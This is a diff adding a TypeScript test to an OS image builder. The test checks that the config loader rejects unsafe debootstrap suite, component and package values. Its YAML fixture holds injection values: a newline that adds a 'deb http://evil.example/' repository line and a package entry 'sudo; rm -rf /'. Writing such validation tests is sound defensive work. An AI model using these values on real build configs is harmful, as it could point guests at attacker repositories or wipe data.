@@ -7,6 +7,7 @@ import { computeKeys } from '../../src/builder/plan/keys.js';
 import { loadImageSet } from '../../src/builder/plan/load.js';
 import { makePlan } from '../../src/builder/plan/plan.js';
 import { BuildPaths, writeManifest } from '../../src/builder/state.js';
+import { ConfigError } from '../../src/core/errors.js';
 import { type ProcessId, processAlive, self } from '../../src/core/process.js';
 import { tempTree } from '../helpers/sets.js';
 
@@ -150,5 +151,36 @@ describe('install domains of concurrent builds', () => {
     expect(installDomainOwner('debian12', name)).toBeUndefined();
     expect(installDomainOwner('el9stream', 'ost-build-el9stream-base-1a2b3c4d')).toBeUndefined();
     expect(processAlive({ pid: me.pid, start: `${me.start}1` })).toBe(false);
+  });
+});
+
+describe('debootstrap text that ends up in the guest', () => {
+  it('takes plain words only for suite, components and packages (a newline would add a line to sources.list)', () => {
+    const dir = tempTree({
+      'set.yaml': [
+        'distro: d12',
+        'family: deb',
+        'layers:',
+        '  - name: base',
+        '    debootstrap:',
+        '      suite: "bookworm\\ndeb http://evil.example/ bookworm main"',
+        '      mirror: http://deb.debian.org/debian',
+        '      components: [main, "contrib non-free"]',
+        '      packages: [python3, "sudo; rm -rf /"]',
+        '',
+      ].join('\n'),
+    });
+    let err: unknown;
+    try {
+      loadImageSet(path.join(dir, 'set.yaml'));
+    } catch (e) {
+      err = e;
+    }
+    expect(err).toBeInstanceOf(ConfigError);
+    expect((err as ConfigError).problems.map((p) => `${p.path}: ${p.message}`)).toEqual([
+      'layers[0].debootstrap.suite: expected a Debian suite or codename, such as bookworm',
+      'layers[0].debootstrap.components[1]: expected an archive component, such as main',
+      'layers[0].debootstrap.packages[1]: expected a Debian package name',
+    ]);
   });
 });
